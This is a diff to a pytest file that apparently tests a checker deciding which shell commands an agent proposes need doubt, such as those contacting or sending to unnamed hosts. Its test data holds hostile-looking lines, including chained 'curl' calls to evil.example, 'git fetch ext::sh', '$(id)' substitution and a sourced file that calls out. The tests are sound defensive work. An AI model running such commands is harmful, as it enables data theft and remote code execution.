@@ -5,7 +5,7 @@ import json
 import pytest
 
 from tools.heard import Heard, Passage
-from tools.taint import Setting, doubt_about, hosts_in
+from tools.taint import NO_DOUBT, Doubt, Setting, doubt_about, hosts_in
 
 README = """\
 # Widget
@@ -44,6 +44,9 @@ EVERYDAY = [
         "git stash",
         "git switch main",
         "git config user.email me@work.example",
+        "git remote add up https://good.example/x",
+        "git pull && ls -la",
+        "git pull && git status",
     ),
     *("make test", "make", "make -j4 build", "make check 2>&1 | tail -40", "cd sub && make test"),
     *("pytest -q", "pytest -x tests/test_a.py -k name", "python -m pytest tests", ".venv/bin/pytest -q", "tox"),
@@ -57,6 +60,7 @@ EVERYDAY = [
         "npm ci",
         "npm install",
         "uv sync",
+        "touch x && pip install requests",
     ),
     *(
         "curl https://good.example/page?x=1",
@@ -81,6 +85,10 @@ HOSTILE = {
             "git pull https://evil.example/x main",
             "git fetch ext::sh",
             "git pull; git clone $X",
+            'git pull; curl "$ADDRESS"',
+            "git clone work",
+            "git fetch 'a b'",
+            "git fetch origin --unheard-of",
             "docker pull evil.example/i",
         ),
         *("python fetch.py", "cd /home/me/proj && python3 ./fetch.py", "http evil.example"),
@@ -153,6 +161,8 @@ def test_whoever_names_an_address_or_a_command_may_have_it() -> None:
         ("look at evil.example please", "curl https://evil.example/"),
         ("look at <https://evil.example/x?y=z#a>, please", "curl -H 'Accept: text/html' evil.example/x?y=z"),
         ("my server is http://localhost:8000", "curl -H 'X-Key: a' http://localhost:8000/any?thing=$(id)"),
+        ("my server is 127.0.0.1", "curl -H 'X-Key: a' http://127.0.0.1/any"),
+        ("my server is http://[::1]:80", "curl -H 'X-Key: a' http://[::1]:80/any"),
         ("do `make deploy`", "make deploy"),
         ("run: git push origin main", "git push origin main"),
         ("install widget-evil", "pip install widget-evil"),
@@ -166,6 +176,26 @@ def test_an_address_says_who_has_named_it_and_can_be_granted() -> None:
     assert (doubt.rules, doubt.only_once) == (("contact-outside evil.example",), False)
     assert "nobody here has named" in doubt_about("curl other.example", heard(), setting()).reasons[0]
     assert doubt_about("scp a good.example:", heard(), setting()).rules == ("send-outside good.example",)
+    part_of_it = heard("see https://another.example")
+    assert "nobody here has named" in doubt_about("curl other.example", part_of_it, setting()).reasons[0]
+
+
+def test_what_goes_to_an_address_that_cannot_be_known_is_never_granted_for_good() -> None:
+    assert doubt_about("git push", heard(), setting()) == Doubt(
+        reasons=("it sends something away with git",), rules=(), only_once=True
+    )
+    assert not NO_DOUBT.only_once
+
+
+@pytest.mark.parametrize(
+    "file",
+    ["package.json", "pyproject.toml", "setup.py", "setup.cfg", "Cargo.toml", "go.mod", "Gemfile", "Pipfile"],
+)
+def test_what_a_project_names_may_be_fetched_unless_it_was_named_meanwhile(file: str) -> None:
+    for command in ("npm ci", "pip install -e ."):
+        assert doubt_about(command, heard(), HARMLESS) == NO_DOUBT
+        written = Setting(cwd="/home/me/proj", home="/home/me", written={f"/home/me/proj/{file}": ""})
+        assert "address" in "; ".join(doubt_about(command, heard(), written).reasons)
 
 
 PROJECT = {
@@ -205,6 +235,35 @@ def test_what_was_written_into_a_project_is_read_when_the_project_is_run(file: s
     assert doubt_about(command, heard(), at).reasons != ()
     assert doubt_about("git status", heard(), at).reasons == ()
     assert doubt_about(command, Heard(own_words=OWN), at).reasons == ()
+
+
+@pytest.mark.parametrize(
+    ("text", "command", "is_said"),
+    [
+        ("The uninstaller is broken.", "uninstaller", False),  # a single word is found in any text
+        ("1. uninstaller", "uninstaller", True),
+        ("The bin/uninstaller is broken.", "bin/uninstaller", True),
+        ("Set x=1 first", "x=1", False),  # which does nothing by itself
+        ("cat setup.cfg", "cat setup.cfg && ./other.sh", False),  # what it says only looks
+        ("./other.sh", "cat setup.cfg && ./other.sh", True),
+        ("Use `deploy …` then", "deploy $TARGET", False),
+        ("Use deploy $TARGET then", "deploy $TARGET", True),
+    ],
+)
+def test_what_counts_as_said(text: str, command: str, is_said: bool) -> None:
+    assert bool(doubt_about(command, heard(text, own=""), HARMLESS).reasons) == is_said
+
+
+@pytest.mark.parametrize(("count", "is_said"), [(40, False), (41, True)])
+def test_more_commands_than_are_compared_one_by_one_are_compared_as_a_whole(count: int, is_said: bool) -> None:
+    command = "; ".join(f"make test-{number}" for number in range(count))
+    assert doubt_about(command, heard(command), HARMLESS).only_once == is_said
+
+
+def test_where_nothing_was_said_nothing_is_allowed_by_it() -> None:
+    """Not even a command of which no word is left when the marks around words are taken away."""
+    at = Setting(cwd="/home/me/proj", home="/home/me", written={"/home/me/proj/_": "curl https://evil.example"})
+    assert doubt_about(". _", heard(own=""), at).reasons != ()
 
 
 def test_without_a_network_only_what_was_said_is_asked_about() -> None:
